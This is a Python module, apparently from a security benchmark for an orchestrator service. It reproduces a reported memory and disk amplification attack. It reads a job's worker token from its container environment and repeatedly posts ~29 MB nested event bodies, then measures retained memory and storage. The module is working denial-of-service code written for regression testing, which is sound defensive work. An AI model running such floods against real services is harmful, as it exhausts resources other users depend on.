"""Memory and disk amplification through ``POST /event``: a job that sends huge nested event data
again and again, to make the orchestrator hold (and store) far more than it should.

The attack as first reported sent 25 requests of ~29 MB of nested ``data`` (nine objects of 200
strings of 16 KB) and took the orchestrator from 104 MB to 1.37 GB of RSS and its store to 1 GB.
This module sends that body, and the largest nested body the event route reads, in turns, on
:data:`CONNECTIONS` connections, until ``stop`` is set. It is the job itself: it creates its own
job over the control plane and takes the job's token from the job's container, as anything in
that container could.

The target's job image must keep a job with the task ``sleep`` running (the test agent does,
as in the other benchmarks); once the job ends its token is dead and every answer is a 401.

What it returns says what it achieved: requests sent and how they were answered (accepted,
refused as too large, rate limited, other), bytes sent, and what the target kept of it: the
job's rows in the target's store, the store's files, the job's history as ``WatchJob`` replays
it, and the target's RSS before and after.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sqlite3
import time
from collections import Counter
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from bench.attacks import AttackTarget
from bench.wire import take_message

CONNECTIONS = 2
JOB_READY_TIMEOUT_S = 120.0
REQUEST_TIMEOUT_S = 60.0
ROW_OVERHEAD = 64  # what the store's byte bound charges a row beyond its payload


def reported_body() -> bytes:
    """The reported attack: ~29 MB of nested event data."""
    data = {f"a{i}": {f"b{j}": "x" * 16_000 for j in range(200)} for i in range(9)}
    return json.dumps({"event_type": "tool_result", "data": data}).encode()


def largest_accepted_body() -> bytes:
    """The same shape within the event route's body limit (about four times the event bound):
    accepted, then cut to the bound by the target."""
    data = {f"a{i}": {f"b{j}": "x" * 16_000 for j in range(5)} for i in range(3)}
    return json.dumps({"event_type": "tool_result", "data": data}).encode()


async def event_amplification(target: AttackTarget, stop: asyncio.Event) -> dict[str, Any]:
    """The :data:`bench.attacks.Attack` of this module."""
    import grpc

    from ironclaw_client.api.v1 import jobs_pb2 as pb
    from ironclaw_client.api.v1 import jobs_pb2_grpc as pb_grpc

    bodies = [reported_body(), largest_accepted_body()]
    channel = grpc.aio.insecure_channel(target.grpc_target)
    stub = pb_grpc.JobServiceStub(channel)
    job_id = ""
    rss_before = _rss(target.pid)
    try:
        created = await stub.CreateJob(pb.CreateJobRequest(task="sleep"), timeout=60)
        job_id = created.job.job_id
        token = await asyncio.to_thread(_token_of, job_id, target.settings_env)
        answers: Counter[str] = Counter()
        sent_bytes = [0]
        started = time.monotonic()

        async def sender(first: int) -> None:
            turn = first
            while not stop.is_set():
                body = bodies[turn % len(bodies)]
                turn += 1
                status = await _post(target.worker_api_url, job_id, token, body)
                answers[_kind(status)] += 1
                sent_bytes[0] += len(body)

        senders = [asyncio.create_task(sender(i)) for i in range(CONNECTIONS)]
        try:
            await stop.wait()
        finally:
            for task in senders:
                task.cancel()
            await asyncio.gather(*senders, return_exceptions=True)
        elapsed = time.monotonic() - started
        rss_after = _rss(target.pid)
        replayed = await _replay(stub, pb, job_id)
        stored = _stored(target, job_id)
        return {
            "attack": "event_amplification",
            "job_id": job_id,
            "duration_s": round(elapsed, 3),
            "requests_sent": sum(answers.values()),
            "accepted": answers["accepted"],
            "refused_too_large": answers["too_large"],
            "refused_rate_limited": answers["rate_limited"],
            "other_answers": answers["other"],
            "bytes_sent": sent_bytes[0],
            "body_sizes": [len(b) for b in bodies],
            "history_bound_bytes": _history_bound(target.settings_env),
            "retained": {
                "store_bytes": stored["bytes"],  # the job's rows as the store's bound counts them
                "store_rows": stored["rows"],
                "store_files_bytes": stored["files"],
                "watch_replay_items": replayed["items"],
                "watch_replay_bytes": replayed["bytes"],  # serialized, as WatchJob sends them
            },
            "target_rss_bytes": {"before": rss_before, "after": rss_after},
        }
    finally:
        if job_id:
            with contextlib.suppress(grpc.RpcError):
                await stub.StopJob(pb.StopJobRequest(job_id=job_id), timeout=60)
            with contextlib.suppress(grpc.RpcError):
                await stub.CleanupJob(pb.CleanupJobRequest(job_id=job_id), timeout=60)
        await channel.close(None)


def _kind(status: int) -> str:
    return {200: "accepted", 413: "too_large", 429: "rate_limited"}.get(status, "other")


async def _post(base_url: str, job_id: str, token: str, body: bytes) -> int:
    """One POST on its own connection; the status (0 when the connection failed). The body is
    written from this buffer as the server takes it, so nothing here grows with it."""
    host, _, port = base_url.removeprefix("http://").rstrip("/").partition(":")
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, int(port or 80)), REQUEST_TIMEOUT_S
        )
    except (OSError, TimeoutError):
        return 0
    try:
        head = (
            f"POST /worker/{job_id}/event HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode()
        writer.write(head)
        with contextlib.suppress(ConnectionError):
            # The server may answer (413) and close before it has taken the whole body.
            for start in range(0, len(body), 1 << 20):
                writer.write(body[start : start + (1 << 20)])
                await asyncio.wait_for(writer.drain(), REQUEST_TIMEOUT_S)
        buffer = bytearray()
        while (message := take_message(buffer)) is None:
            chunk = await asyncio.wait_for(reader.read(65536), REQUEST_TIMEOUT_S)
            if not chunk:
                return 0
            buffer += chunk
        return message.status
    except (OSError, TimeoutError):
        return 0
    finally:
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


def _token_of(job_id: str, settings_env: Mapping[str, str]) -> str:
    """The job's token, from its container's environment (what the job itself holds)."""
    from bench.docker_util import docker_client

    instance = settings_env.get("ORCHESTRATOR_INSTANCE", "")
    client = docker_client()
    try:
        deadline = time.monotonic() + JOB_READY_TIMEOUT_S
        while time.monotonic() < deadline:
            labels = [f"ironclaw.job_id={job_id}"]
            if instance:
                labels.append(f"ironclaw.instance={instance}")
            for container in client.containers.list(filters={"label": labels}):
                for entry in container.attrs["Config"]["Env"] or []:
                    name, _, value = entry.partition("=")
                    if name == "IRONCLAW_WORKER_TOKEN" and value:
                        return str(value)
            time.sleep(0.2)
        raise RuntimeError(f"job {job_id}: no running container within {JOB_READY_TIMEOUT_S} s")
    finally:
        client.close()


async def _replay(stub: Any, pb: Any, job_id: str) -> dict[str, int]:
    """The job's retained history as WatchJob replays it from the start."""
    last = (await stub.GetJob(pb.GetJobRequest(job_id=job_id), timeout=30)).job.last_sequence
    items = size = 0
    if not last:
        return {"items": 0, "bytes": 0}
    stream = stub.WatchJob(pb.WatchJobRequest(job_id=job_id, from_start=True), timeout=60)
    try:
        async for update in stream:
            items += 1
            size += update.ByteSize()
            if update.sequence >= last:
                break
    finally:
        stream.cancel()
    return {"items": items, "bytes": size}


def _stored(target: AttackTarget, job_id: str) -> dict[str, int]:
    state_dir = target.settings_env.get("ORCHESTRATOR_STATE_DIR") or str(target.base_dir)
    path = Path(state_dir) / "orchestrator.db"
    files = sum(p.stat().st_size for p in path.parent.glob(path.name + "*") if p.is_file())
    if not path.is_file():
        return {"bytes": 0, "rows": 0, "files": files}
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as conn:
        rows, size = conn.execute(
            "SELECT COUNT(*), COALESCE(SUM(LENGTH(payload) + ?), 0) FROM updates WHERE job_id = ?",
            (ROW_OVERHEAD, job_id),
        ).fetchone()
    return {"bytes": int(size), "rows": int(rows), "files": files}


def _history_bound(settings_env: Mapping[str, str]) -> int:
    raw = str(settings_env.get("JOB_HISTORY_MAX_MB", "") or "4")
    return int(raw) * 1024 * 1024


def _rss(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


__all__ = ["event_amplification", "largest_accepted_body", "reported_body"]
